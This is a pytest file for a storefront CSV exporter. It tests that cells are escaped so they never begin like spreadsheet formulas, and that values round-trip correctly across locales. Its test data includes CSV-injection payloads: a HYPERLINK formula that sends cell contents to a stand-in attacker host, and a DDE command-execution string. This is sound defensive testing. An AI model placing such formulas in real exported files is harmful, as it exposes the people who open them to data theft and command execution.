"""A file of ours runs nothing in the spreadsheet that opens it."""

import csv
import io
from decimal import Decimal

import pytest

from chenu.core.i18n import LOCALES, Locale
from storefront.csv_export import write_rows

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "\x00=1+1",
]


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_text_never_begins_like_a_formula(text: str, locale: Locale) -> None:
    written = write_rows([[text, "after"]], locale)

    assert written.startswith("\"'")


@pytest.mark.parametrize(("locale", "separator"), [("fr", ";"), ("en", ",")])
def test_every_cell_comes_back_as_it_was(locale: Locale, separator: str) -> None:
    rows = [["a;b,c", 'say "=1"', "two\nlines", "été"], ["", "x", "y", "z"]]

    written = write_rows(rows, locale)

    assert list(csv.reader(io.StringIO(written), delimiter=separator)) == rows


def test_numbers_stay_numbers() -> None:
    assert write_rows([[-5, 1100, None]], "en") == '-5,1100,""\r\n'


def test_a_separator_of_another_language_makes_no_cell() -> None:
    assert write_rows([["a;=1+1"]], "fr") == '"a;=1+1"\r\n'


@pytest.mark.parametrize(
    ("locale", "written"), [("fr", '-96,55;0,5;"a"\r\n'), ("en", '-96.55,0.5,"a"\r\n')]
)
def test_decimals_are_numbers_with_the_sign_of_the_language(locale: Locale, written: str) -> None:
    assert write_rows([[Decimal("-96.55"), Decimal("0.5"), "a"]], locale) == written
